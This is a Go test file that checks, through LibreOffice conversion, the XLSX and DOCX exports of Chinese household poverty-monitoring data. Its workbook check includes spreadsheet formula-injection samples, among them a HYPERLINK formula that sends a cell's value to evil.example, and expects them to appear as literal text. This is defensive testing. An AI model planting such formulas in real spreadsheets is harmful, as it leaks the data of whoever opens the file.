package export

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"fangpin/internal/testkit"
)

// TestLibreOffice opens the writers' files in LibreOffice, the final check
// of what people will open: the workbook converts to CSV with the headers,
// the figures as formatted and the formula-like text as literal text, and
// the report converts to text and to ODT with real outline headings and the
// image. It needs soffice on the PATH (.ci/run installs it) and is skipped
// with -short.
func TestLibreOffice(t *testing.T) {
	if testing.Short() {
		t.Skip("LibreOffice takes a while; skipped with -short")
	}
	xlsxPath := testkit.File(t, "households.xlsx", string(writeWorkbook(t)))
	docxPath := testkit.File(t, "report.docx", string(writeReport(t)))
	t.Run("xlsx to csv", func(t *testing.T) {
		// UTF-8 (76), cells as shown, every sheet to its own file (-1).
		out := testkit.Convert(t, xlsxPath, "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false,false,-1")
		households := readFile(t, filepath.Join(out, "households-农户名单.csv"))
		for _, want := range []string{
			"金昌市 农户名单 截至2026年11月28日",
			"户编号,户主姓名,证件号码,联系电话,家庭人口,人均纯收入（元）,收入增幅,识别日期,识别监测时间,帮扶资金",
			`620302101001000001,张三,620302199001011234,13912345678,4,"12,345.56",12.5%,2026-11-28,202611,"1,234,567"`,
			`"=HYPERLINK(""http://evil.example/?x=""&A3,""点击查看"")"`,
			"+SUM(1,2)", "@cmd", `"999,999,999,999.99"`, "1900-03-01", "李四",
		} {
			if !strings.Contains(households, want) {
				t.Errorf("LibreOffice's CSV lacks %s:\n%s", want, households)
			}
		}
		if summary := readFile(t, filepath.Join(out, "households-汇总／统计.csv")); !strings.Contains(summary, "县区,户数\n金川区,12") {
			t.Errorf("second sheet:\n%s", summary)
		}
	})

	t.Run("docx to text", func(t *testing.T) {
		text := readFile(t, filepath.Join(testkit.Convert(t, docxPath, "txt:Text"), "report.txt"))
		for _, want := range []string{"金昌市防返贫监测帮扶工作调研报告", "一、基本情况", "全市共有脱贫户3,512户", "（一）各县区情况",
			"人均纯收入（元）", "12,345", "1,234,567.89", "81.3%", "2026-11-28", "1. 小结"} {
			if !strings.Contains(text, want) {
				t.Errorf("LibreOffice's text lacks %s:\n%s", want, text)
			}
		}
	})

	t.Run("docx to odt", func(t *testing.T) {
		out := testkit.Convert(t, docxPath, "odt")
		data, err := os.ReadFile(filepath.Join(out, "report.odt"))
		if err != nil {
			t.Fatal(err)
		}
		content := testkit.ZipPart(t, data, "content.xml")
		for _, want := range []string{
			`text:outline-level="1">一、基本情况`, `text:outline-level="2">（一）各县区情况`, `text:outline-level="3">1. 小结`,
			"<draw:image", "<table:table ",
		} {
			if !strings.Contains(content, want) {
				t.Errorf("LibreOffice's document lacks %s", want)
			}
		}
		if styles := testkit.ZipPart(t, data, "styles.xml"); !strings.Contains(styles, `fo:page-width="8.2681in" fo:page-height="11.6929in"`) &&
			!strings.Contains(styles, `fo:page-width="21.001cm"`) {
			t.Error("page is not A4")
		}
	})
}

func readFile(t *testing.T, path string) string {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		entries, _ := os.ReadDir(filepath.Dir(path))
		t.Fatalf("%v (folder holds %v)", err, entries)
	}
	return strings.TrimPrefix(string(b), "\uFEFF")
}
